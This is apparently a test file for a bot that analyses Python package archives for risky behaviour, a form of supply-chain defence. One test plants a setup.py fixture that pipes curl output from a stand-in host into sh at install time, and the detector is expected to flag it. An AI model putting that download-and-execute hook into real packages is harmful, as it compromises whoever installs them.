"""analyze_artifact with the real Python analyzer, end to end on in-memory archives."""

from __future__ import annotations

from bot.analysis.artifact import analyze_artifact
from bot.analysis.compare import new_findings
from bot.analysis.python_code import analyze_python
from bot.model import AlertType
from tests.analysis.builders import build_sdist, build_wheel

INIT = "import subprocess\n\ndef run(c):\n    return subprocess.run(c)\n"
NET = "import urllib.request\n\ndef fetch(u):\n    return urllib.request.urlopen(u).read()\n"


def test_upgrade_reports_only_the_new_network_capability() -> None:
    old = analyze_artifact(build_wheel("demo", "1.0", {"demo/__init__.py": INIT}),
                           "demo-1.0-py3-none-any.whl", python_analyzer=analyze_python)
    moved = "# moved and reformatted\n\n\n" + INIT.replace("(c)", "( c )")
    new = analyze_artifact(
        build_wheel("demo", "1.1", {"demo/__init__.py": "", "demo/run.py": moved,
                                    "demo/net.py": NET}),
        "demo-1.1-py3-none-any.whl", python_analyzer=analyze_python)
    assert [(f.type, f.api, f.file, f.line, f.artifact) for f in
            new_findings(old.findings, new.findings)] == [
        (AlertType.NETWORK, "urllib.request.urlopen", "demo/net.py", 4,
         "demo-1.1-py3-none-any.whl")]


def test_install_time_setup_py_is_flagged_and_tests_are_skipped() -> None:
    sdist = build_sdist("demo", "1.1", {
        "setup.py": "import os\nfrom setuptools import setup\n"
                    "os.system('curl http://x.example/a | sh')\nsetup()\n",
        "tests/test_x.py": "import os\nos.system('ls')\n",
    })
    result = analyze_artifact(sdist, "demo-1.1.tar.gz", python_analyzer=analyze_python)
    assert {(f.type, f.file, f.line) for f in result.findings} == {
        (AlertType.INSTALL_SCRIPT, "setup.py", 3), (AlertType.INSTALL_TIME_PAYLOAD, "setup.py", 3),
            (AlertType.DOWNLOAD_EXEC, "setup.py", 3)}
    assert result.files_analyzed == 1
